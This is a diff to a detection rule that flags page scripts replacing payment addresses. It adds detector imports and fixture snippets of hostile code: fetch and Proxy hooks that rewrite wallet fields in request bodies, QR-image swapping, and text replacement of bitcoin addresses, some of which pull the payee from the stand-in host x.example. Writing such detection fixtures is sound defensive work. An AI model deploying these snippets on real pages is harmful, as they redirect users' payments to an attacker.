@@ -6,6 +6,8 @@ import { textsOf } from './textsOf.ts';
 import { backwardSlice } from '../../program/backwardSlice.ts';
 import { isMadeOf } from '../../program/madeOf.ts';
 import { first } from '../../facts/first.ts';
+import { codesExchanged } from './codesExchanged.ts';
+import { payeesInRequests } from './payeesInRequests.ts';
 import { runsInPages } from './places.ts';
 import { ADDRESS, writtenPayees } from './writtenPayees.ts';
 import { addressPatterns } from './walletAddresses.ts';
@@ -26,6 +28,8 @@ export const walletAddressReplaced = defineRule({
     const { script, file, facts, hit } = judged;
     if (!runsInPages(facts, file.path)) return;
     yield* writtenPayees(judged);
+    yield* payeesInRequests(judged);
+    yield* codesExchanged(judged);
     const forms = addressPatterns(script);
     const head = forms[0];
     if (head === undefined) return;
@@ -76,6 +80,21 @@ export const walletAddressReplaced = defineRule({
         'const ask = window.fetch; window.fetch = (to, given) => { const body = JSON.parse(given.body); body.account = "DE89370400440532013000"; given.body = JSON.stringify(body); return ask(to, given); };',
       ),
       contentExample(
+        'const ours = { BTC: "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh" }; const steps = [(call) => ({ ...call, body: { ...call.body, address: ours[call.body.coin] } })]; const ask = window.fetch.bind(window); window.fetch = (to, given) => ask(to, { ...given, body: JSON.stringify(steps.reduce((all, step) => step(all), { to, body: JSON.parse(given.body) }).body) });',
+      ),
+      contentExample(
+        'let payee; fetch("https://x.example/p").then((r) => r.json()).then((j) => { payee = j.to; }); window.fetch = new Proxy(window.fetch, { apply(ask, self, [to, given]) { const body = JSON.parse(given.body); body.address = payee; return Reflect.apply(ask, self, [to, { ...given, body: JSON.stringify(body) }]); } });',
+      ),
+      contentExample(
+        'const seen = new BarcodeDetector({ formats: ["qr_code"] }); setInterval(() => document.querySelectorAll("img").forEach(async (one) => { for (const code of await seen.detect(one)) if (/^bitcoin:/.test(code.rawValue)) one.src = "https://x.example/code?of=" + mine; }), 1500);',
+      ),
+      contentExample(
+        'fetch("https://x.example/p").then((r) => r.json()).then((p) => { const all = document.createTreeWalker(document.body, 4); let one; while ((one = all.nextNode())) { const m = /\\bbc1[a-z0-9]{25,62}/.exec(one.nodeValue); if (m) one.nodeValue = one.nodeValue.split(m[0]).join(p.btc); } });',
+      ),
+      contentExample(
+        'setInterval(() => document.querySelectorAll("img[alt*=QR]").forEach((one) => { one.src = "https://x.example/code?of=bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"; }), 1500);',
+      ),
+      contentExample(
         'document.documentElement.innerHTML = "<h1>Your files are locked</h1><p>Send 0.05 to bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh</p>";',
       ),
       contentExample(
@@ -89,6 +108,15 @@ export const walletAddressReplaced = defineRule({
       ),
     ],
     good: [
+      contentExample(
+        'document.querySelectorAll("img").forEach(async (one) => { if (await model.detect(one)) one.src = blank; });',
+      ),
+      contentExample(
+        'document.querySelectorAll("td").forEach((td) => { if (/^0x[a-f0-9]{40}$/.test(td.textContent)) fetch("https://names.example/" + td.textContent).then((r) => r.json()).then(({ name }) => { const s = document.createElement("span"); s.textContent = name; td.append(s); }); });',
+      ),
+      contentExample(
+        'const base = { decimals: 6 }; const USDC = { ...base, address: "0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48" }; const ask = window.fetch; window.fetch = (to, given) => ask(to, { ...given }).then((r) => { note(USDC.address, to); return r; });',
+      ),
       contentExample(
         'const a = document.createElement("a"); a.href = "mailto:help@tool.example"; const code = document.createElement("code"); code.textContent = "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"; const thanks = { iban: "" }; thanks.iban = "DE89370400440532013000"; panel.append(a, code);',
       ),
